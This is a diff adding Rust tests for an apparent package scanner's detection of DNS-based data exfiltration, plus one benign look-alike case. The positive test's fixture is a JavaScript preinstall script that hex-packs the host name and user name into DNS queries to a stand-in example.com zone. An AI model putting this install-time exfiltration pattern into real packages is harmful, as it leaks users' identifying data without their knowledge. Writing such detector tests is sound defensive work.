@@ -133,6 +133,53 @@ mod tests {
 
     /// An error reporter that includes the host name: one kind of host data, low.
     #[test]
+    fn positive_resolver_instance_and_promises_api() {
+        // `new dns.Resolver()` and `dns/promises` query like `dns.resolve4`: host data hex-packed
+        // into labels under a zone built with `join` leaves at install.
+        for (decl, call) in [
+            (
+                "const dns = require('dns');\nconst r = new dns.Resolver();",
+                "r.resolve4",
+            ),
+            (
+                "const { Resolver } = require('dns/promises');\nconst r = new Resolver();",
+                "r.resolveTxt",
+            ),
+        ] {
+            let src = format!(
+                "{decl}\nconst os = require('os');\nconst zone = ['q', 'example', 'com'].join('.');\nconst hex = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex');\n{call}(`${{hex.slice(0, 60)}}.${{zone}}`, () => {{}});\n"
+            );
+            let s = scan(&[
+                (
+                    "package.json",
+                    r#"{"name":"t","version":"1.0.0","scripts":{"preinstall":"node probe.js"}}"#,
+                ),
+                ("probe.js", src.as_str()),
+            ]);
+            assert_eq!(
+                hits(&s, "code/host-data-exfiltration"),
+                vec![("probe.js".to_string(), 6)],
+                "{call}"
+            );
+        }
+    }
+
+    #[test]
+    fn negative_resolver_of_a_configured_service() {
+        // Benign look-alike: a health check resolving the host it is given on its own
+        // resolver and printing the local host name beside the answer.
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const dns = require('dns');\nconst os = require('os');\nconst r = new dns.Resolver();\nr.setServers(['192.0.2.53']);\nmodule.exports = (host) => r.resolve4(host, (e, a) => console.log(os.hostname(), host, e ? 'down' : a));\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/host-data-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    #[test]
     fn negative_error_reporter_with_host_name() {
         let s = scan(&[
             ("package.json", PJ),
